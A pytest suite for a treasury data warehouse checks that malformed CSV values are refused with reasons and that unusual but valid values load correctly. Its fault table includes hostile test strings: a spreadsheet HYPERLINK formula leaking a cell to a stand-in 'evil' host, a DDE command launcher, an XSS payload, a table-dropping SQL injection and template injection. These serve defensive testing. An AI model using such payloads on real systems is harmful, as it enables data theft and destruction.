"""Bad values in good files: refused one by one with a reason, while their neighbours go on.

The ids are those of the fault list: N numbers, T times, S semantics, I identity. One inbox holds one file per
fault: a good row, the faulty row, a good row. All are landed and built in one night.
"""

import csv
from collections.abc import Callable
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import duckdb
import pytest

from dagster_project.build.warehouse import build_warehouse
from dagster_project.landing import land
from dagster_project.settings import ROOT, Settings
from dagster_project.storage.database import connect

NOW = datetime(2026, 11, 23, 2, 30, tzinfo=UTC)
GOOD = {
    "company_id": "cango",
    "occurred_at": "2026-02-07T12:00:00Z",
    "event_type": "purchase",
    "from_account": "cango:cash",
    "from_asset": "USD",
    "from_quantity": "50000",
    "to_account": "cango:custody",
    "to_asset": "BTC",
    "to_quantity": "1",
    "value_usd": "50000",
}

# fault: (column, value, reason of the refused row; "" where the value is accepted)
FAULTS = {
    "N01": ("to_quantity", "1e-8", ""),
    "N02": ("to_quantity", "1,234.56", "bad_number"),
    "N03": ("to_quantity", "1.234,56", "bad_number"),
    "N04": ("to_quantity", "NaN", "bad_number"),
    "N05": ("to_quantity", "inf", "bad_number"),
    "N06": ("to_quantity", "-0", "not_positive"),
    "N07": ("to_quantity", "1e400", "out_of_range"),
    "N08": ("to_quantity", "1e-400", "too_precise"),
    "N09": ("to_quantity", "0x10", "bad_number"),
    "N10": ("to_quantity", " 12.5 ", ""),
    "N11": ("to_quantity", "$12.50", "bad_number"),
    "N12": ("to_quantity", "12.50 BTC", "bad_number"),
    "N15": ("to_quantity", "0.12345678901234567899", "too_precise"),
    "N17": ("to_quantity", "", "missing_value"),
    "N18": ("to_quantity", "N/A", "bad_number"),
    "N21": ("to_quantity", "−5", "bad_number"),
    "N22": ("to_quantity", "+5", ""),
    "N23": ("to_quantity", "1_000", "bad_number"),
    "N24": ("to_quantity", "-1.5", "not_positive"),
    "N25": ("to_quantity", ".5", ""),
    "N27": ("to_quantity", "12.5%", "bad_number"),
    "N28": ("to_quantity", "true", "bad_number"),
    "N29": ("to_quantity", "4451000000000000000000", "out_of_range"),
    "N29b": ("to_quantity", "21000000.00000001", "out_of_range"),
    "N31": ("to_quantity", "0.000000001", "too_precise"),
    "T01": ("occurred_at", "03/04/2026", "ambiguous_date"),
    "T02": ("occurred_at", "25/12/2025", "bad_timestamp"),
    "T03": ("occurred_at", "2026-02-07T12:00:00", "timestamp_without_offset"),
    "T04": ("occurred_at", "2026-02-07T12:00:00+09:00", ""),
    "T05": ("occurred_at", "2026-02-07T23:30:00-05:00", ""),
    "T07": ("occurred_at", "2026-11-01 01:30:00 America/New_York", "ambiguous_local_time"),
    "T08": ("occurred_at", "2016-12-31T23:59:60Z", "bad_timestamp"),
    "T09": ("occurred_at", "1770465600", "bad_timestamp"),
    "T11": ("occurred_at", "46060.5", "bad_timestamp"),
    "T12": ("occurred_at", "2026-02-30T00:00:00Z", "bad_timestamp"),
    "T14": ("occurred_at", "2126-02-07T00:00:00Z", "future_timestamp"),
    "T15": ("occurred_at", "0001-01-01T00:00:00Z", "before_genesis"),
    "T17": ("occurred_at", "02/07/26", "bad_timestamp"),
    "T19": ("occurred_at", "epoch", "bad_timestamp"),
    "T19b": ("occurred_at", "infinity", "bad_timestamp"),
    "T20": ("occurred_at", "2026-02-07T12:00:00+99:99", "bad_timestamp"),
    "S01": ("note", "=1+1", ""),
    "S02": ("note", "+1+1", ""),
    "S03": ("note", "-2+3", ""),
    "S04": ("note", "@SUM(A1:A9)", ""),
    "S05": ("note", '=HYPERLINK("http://evil/?"&A1)', ""),
    "S06": ("note", "\t=1+1", ""),
    "S08": ("note", "=cmd/' /C calc'!A0", ""),
    "S09": ("note", "<img src=x onerror=alert(1)>", ""),
    "S10": ("note", "'; drop table events; --", ""),
    "S11": ("note", "{{ env_var('HOME') }}{% for x in y %}", ""),
    "S12": ("to_asset", "DOGEX", "unknown_asset"),
    "S13": ("event_type", "teleport", "unknown_type"),
    "S14": ("to_asset", " btc ", ""),
    "S19": ("value_usd", "0", "not_positive"),
    "I08": ("event_id", "", "missing_value"),
    "account": ("to_account", "cango:nowhere", "unknown_account"),
    "foreign": ("to_account", "lantern:custody", "account_of_another_company"),
    "company": ("company_id", "nobody", "unknown_company"),
    "fee": ("fee_quantity", "1", "missing_value"),
    "S19b": ("value_usd", "0.001", "too_precise"),
    "S19c": ("value_usd", "10000000000000", "out_of_range"),
    "N29c": ("from_quantity", "10000000000000", "out_of_range"),
    "picks zero": ("lot_picks", "picks-1:0", "not_positive"),
    "picks one of two zero": ("lot_picks", "picks-1:0.00;picks-3:1", "not_positive"),
    "picks too fine": ("lot_picks", "picks-1:0.0000000001", "too_precise"),
    "picks too large": ("lot_picks", "picks-1:99999999999999999999", "bad_lot_picks"),
    "picks": ("lot_picks", "one bitcoin please", "bad_lot_picks"),
    "illustrative": ("is_illustrative", "maybe", "bad_boolean"),
}
PRICES = {
    "S18": ("-1", "not_positive"),
    "P0": ("0", "not_positive"),
    "S20": ("7000000", ""),
    "P1": ("1,0", "bad_number"),
}


@pytest.fixture(scope="module")
def house(tmp_path_factory) -> duckdb.DuckDBPyConnection:
    """The warehouse after a night with every fault in the inbox."""
    folder = tmp_path_factory.mktemp("faults")
    settings = Settings(data=folder / "data", inbox=folder / "inbox", seeds=ROOT / "seeds")
    inbox = settings.inbox / "treasury_csv"
    inbox.mkdir(parents=True)
    header = (ROOT / "data/sample/treasury_csv/events.csv").open().readline().strip().split(",")
    for fault, (column, value, _) in FAULTS.items():
        rows = [GOOD | {"event_id": f"{fault}-{row}"} for row in (1, 2, 3)]
        rows[1][column] = value
        _write(inbox / f"events-{fault}.csv", header, rows)
    for fault, (price, _) in PRICES.items():
        row = {
            "asset_id": "BTC",
            "quote_asset": "USD",
            "priced_at": "2026-02-07T23:59:59Z",
            "source_url": fault,
            "price": price,
        }
        _write(
            inbox / f"prices-{fault}.csv",
            ["asset_id", "quote_asset", "priced_at", "price", "convention", "source_url"],
            [row],
        )
    _write_identities(inbox, header)
    _write_stories(inbox, header)
    land(settings, NOW)
    _write_second_night(inbox, header)
    land(settings, NOW.replace(day=24))
    build_warehouse(settings)
    with connect(settings.warehouse, read_only=True) as connection:
        yield connection


def _write(path: Path, header: list[str], rows: list[dict[str, str]]) -> None:
    with path.open("w", newline="") as file:
        writer = csv.DictWriter(file, header)
        writer.writeheader()
        writer.writerows(rows)


def _write_identities(inbox: Path, header: list[str]) -> None:
    """Files about ids: a repeated row, a contradiction in one file, ids that only look alike, five ties."""
    row = GOOD | {"event_id": "I01-1"}
    _write(inbox / "events-I01.csv", header, [row, row, GOOD | {"event_id": "I01-2"}])
    _write(
        inbox / "events-I02.csv",
        header,
        [
            GOOD | {"event_id": "I02-1"},
            GOOD | {"event_id": "I02-1", "to_quantity": "2"},
            GOOD | {"event_id": "I02-2"},
        ],
    )
    _write(inbox / "events-I10.csv", header, [GOOD | {"event_id": "00123"}, GOOD | {"event_id": "123"}])
    _write(
        inbox / "events-I09.csv", header, [GOOD | {"event_id": name} for name in ("I09-a", "i09-A", " I09-a")]
    )
    _write(
        inbox / "events-I03.csv",
        header,
        [GOOD | {"event_id": "I03-1"}, GOOD | {"event_id": "I03-2", "to_quantity": "bad"}],
    )
    wei = {"to_asset": "ETH", "to_quantity": "0.123456789012345678"}
    _write(inbox / "events-N14.csv", header, [GOOD | {"event_id": "N14"} | wei])
    _write(
        inbox / "events-transfer.csv",
        header,
        [
            GOOD
            | {
                "event_id": "lost-coins",
                "event_type": "transfer",
                "from_account": "cango:custody",
                "from_asset": "BTC",
                "from_quantity": "2",
                "to_account": "cango:collateral:antalpha",
                "to_quantity": "1.9",
                "value_usd": "",
            }
        ],
    )


def _write_stories(inbox: Path, header: list[str]) -> None:
    """Good rows that say something unusual: oversold coins, a night in New York, too much repaid."""
    sale = {"event_type": "sale", "to_asset": "USD"}
    oversold = sale | {"from_account": "cango:custody", "to_account": "cango:cash"}
    oversold |= {"from_asset": "ETH", "from_quantity": "5", "to_quantity": "15000", "value_usd": "15000"}
    late = sale | {"company_id": "lantern", "from_account": "lantern:custody", "to_account": "lantern:cash"}
    late |= {"from_asset": "BTC", "from_quantity": "1", "to_quantity": "70000", "value_usd": "70000"}
    repaid = {
        "event_type": "loan_repayment",
        "to_account": "cango:loan:antalpha",
        "to_asset": "USD",
        "to_quantity": "50000",
    }
    _write(
        inbox / "events-stories.csv",
        header,
        [
            GOOD | oversold | {"event_id": "S16", "occurred_at": "2026-02-09T12:00:00Z"},
            GOOD | late | {"event_id": "V10", "occurred_at": "2026-02-07T23:30:00-05:00"},
            GOOD | repaid | {"event_id": "D06"},
            GOOD
            | late
            | {"event_id": "named-late", "lot_picks": "V10:1", "identified_at": "2026-03-01T00:00:00Z"},
        ],
    )


def _write_second_night(inbox: Path, header: list[str]) -> None:
    """The next night: one id with other content, and the corrected version of a row that was refused."""
    _write(
        inbox / "events-I03-again.csv",
        header,
        [GOOD | {"event_id": "I03-1", "to_quantity": "7"}, GOOD | {"event_id": "I03-2", "to_quantity": "3"}],
    )


@pytest.fixture
def ask(house) -> Callable[..., list[tuple]]:
    def fetch(query: str, *parameters: object) -> list[tuple]:
        return house.execute(query, parameters).fetchall()

    return fetch


@pytest.mark.parametrize("fault", [fault for fault, (_, _, reason) in FAULTS.items() if reason])
def test_a_bad_value_refuses_its_row_with_a_reason_and_its_neighbours_go_on(ask, fault):
    _, _, reason = FAULTS[fault]
    file = f"treasury_csv/events-{fault}.csv"
    assert ask("select source_row, reason from marts.rejected_rows where source_file = ?", file) == [
        (3, reason)
    ]
    assert ask("select source_row from marts.events where source_file = ? order by 1", file) == [(2,), (4,)]
    [(message, raw_row)] = ask("select message, raw_row from marts.rejected_rows where source_file = ?", file)
    assert message.startswith(f"{file}, row 3: ") and message.endswith((".", "?)"))
    assert FAULTS[fault][1].strip() in raw_row.replace('\\"', '"')


@pytest.mark.parametrize("fault", [fault for fault, (_, _, reason) in FAULTS.items() if not reason])
def test_an_unusual_but_clear_value_arrives_exactly(ask, fault):
    column, value, _ = FAULTS[fault]
    file = f"treasury_csv/events-{fault}.csv"
    assert ask("select count(*) from marts.rejected_rows where source_file = ?", file) == [(0,)]
    [(arrived,)] = ask(f"select {column} from marts.events where source_file = ? and source_row = 3", file)
    expected = {"T04": datetime(2026, 2, 7, 3), "T05": datetime(2026, 2, 8, 4, 30), "S14": "BTC"}.get(fault)
    assert arrived == (expected or (value if column == "note" else Decimal(value.strip())))


@pytest.mark.parametrize("fault", PRICES)
def test_a_price_must_be_more_than_nothing(ask, fault):
    _, reason = PRICES[fault]
    rejected = ask(
        "select reason from marts.rejected_rows where source_file = ?", f"treasury_csv/prices-{fault}.csv"
    )
    assert rejected == ([(reason,)] if reason else [])


def test_all_eighteen_decimals_survive(ask):
    assert ask("select to_quantity from marts.events where event_id = 'treasury_csv:N14'") == [
        (Decimal("0.123456789012345678"),)
    ]


def test_a_repeated_row_counts_once_and_is_counted_as_a_duplicate(ask):
    rows = ask(
        "select row_status from intermediate.int_events_checked "
        "where source_file = 'treasury_csv/events-I01.csv' order by source_row"
    )
    assert rows == [("accepted",), ("duplicate",), ("accepted",)]


def test_rows_that_contradict_each_other_in_one_night_are_both_refused(ask):
    rows = ask(
        "select source_row, reason from marts.rejected_rows "
        "where source_file = 'treasury_csv/events-I02.csv' order by 1"
    )
    assert rows == [(2, "conflicting_duplicate"), (3, "conflicting_duplicate")]


def test_ids_with_leading_zeros_stay_different(ask):
    assert ask("select event_id from marts.events where source_file like '%I10%' order by 1") == [
        ("treasury_csv:00123",),
        ("treasury_csv:123",),
    ]


def test_ids_that_differ_by_case_are_two_and_spaces_around_an_id_are_none_of_it(ask):
    assert ask("select event_id from marts.events where source_file like '%I09%' order by 1") == [
        ("treasury_csv:I09-a",),
        ("treasury_csv:i09-A",),
    ]


def test_a_later_row_with_other_content_wins_and_both_versions_are_shown(ask):
    assert ask("select to_quantity, source_file from marts.events where event_id = 'treasury_csv:I03-1'") == [
        (Decimal(7), "treasury_csv/events-I03-again.csv")
    ]
    assert ask(
        "select restatement_kind, native_id, changes, old_source_file, old_source_row, new_source_file, "
        "new_source_row from marts.restatements"
    ) == [
        (
            "restated",
            "I03-1",
            "to_quantity: 1 → 7",
            "treasury_csv/events-I03.csv",
            2,
            "treasury_csv/events-I03-again.csv",
            2,
        )
    ]
    assert ask("select count(*) from marts.rejected_rows where source_file like '%I03-again%'") == [(0,)]


def test_a_corrected_row_comes_in_though_its_first_version_was_refused(ask):
    assert ask("select to_quantity from marts.events where event_id = 'treasury_csv:I03-2'") == [
        (Decimal(3),)
    ]


def test_coins_that_vanish_in_a_transfer_are_refused(ask):
    assert ask("select reason from marts.rejected_rows where source_file like '%transfer%'") == [
        ("unbalanced_transfer",)
    ]


def test_every_landed_row_is_an_event_a_refusal_a_declared_duplicate_or_restated(ask):
    [(landed,)] = ask("select count(*) from intermediate.int_events_checked")
    [(events,)] = ask("select count(*) from marts.events")
    [(refused,)] = ask("select count(*) from marts.rejected_rows where entity = 'events'")
    [(duplicates,)] = ask(
        "select count(*) from intermediate.int_events_checked where row_status = 'duplicate'"
    )
    [(restated,)] = ask("select count(*) from marts.restatements where restatement_kind = 'restated'")
    assert (landed, duplicates, restated) == (events + refused + duplicates + restated, 2, 1)


def test_the_laws_hold_with_every_fault_in_the_house(ask):
    failed = ask("select check_name, message from audit.checks where status in ('fail', 'error', 'skipped')")
    assert failed == []


def test_a_sale_larger_than_the_holdings_has_no_cost_and_says_so(ask):
    """Of 5 ETH sold only 0.123456789012345678 are known; the rest never gets a cost of zero."""
    [(cost, gain, complete)] = ask(
        "select cost_usd, realized_gain_usd, is_cost_complete from marts.disposals "
        "where event_id = 'treasury_csv:S16'"
    )
    assert (cost, gain, complete) == (None, None, False)
    assert ask(
        "select basis, quantity, cost_usd, proceeds_usd from marts.disposal_lots "
        "where disposal_id = 'gaap:treasury_csv:S16:out' order by match_no"
    ) == [
        ("fifo", Decimal("0.123456789012345678"), Decimal("50000.00"), Decimal("370.37")),
        ("shortfall", Decimal("4.876543210987654322"), None, Decimal("14629.63")),
    ]
    [(status,)] = ask("select status from audit.checks where check_name = 'disposals_have_a_known_cost'")
    assert status == "warn"


def test_the_day_of_a_disposal_is_that_of_the_company_s_own_time_zone(ask):
    """23:30 on February 7 in New York is February 8 in UTC; Lantern keeps its books in New York."""
    rows = ask(
        "select distinct disposed_at, disposed_on from marts.disposals where event_id = 'treasury_csv:V10'"
    )
    assert rows == [(datetime(2026, 2, 8, 4, 30), date(2026, 2, 7))]


def test_a_loan_that_is_repaid_beyond_its_balance_is_surfaced(ask):
    [(status,)] = ask(
        "select status from audit.checks where check_name = 'loans_never_owe_less_than_nothing'"
    )
    assert status == "warn"


def test_lots_named_after_the_disposal_do_not_count_and_are_listed(ask):
    """The sale falls back to first in, first out; here there is nothing to sell, so it is a shortfall."""
    assert ask(
        "select distinct basis from marts.disposal_lots "
        "where disposal_id = 'gaap:treasury_csv:named-late:out'"
    ) == [("shortfall",)]
    assert ask("select event_id from audit.lots_are_identified_before_the_disposal") == [
        ("treasury_csv:named-late",)
    ]
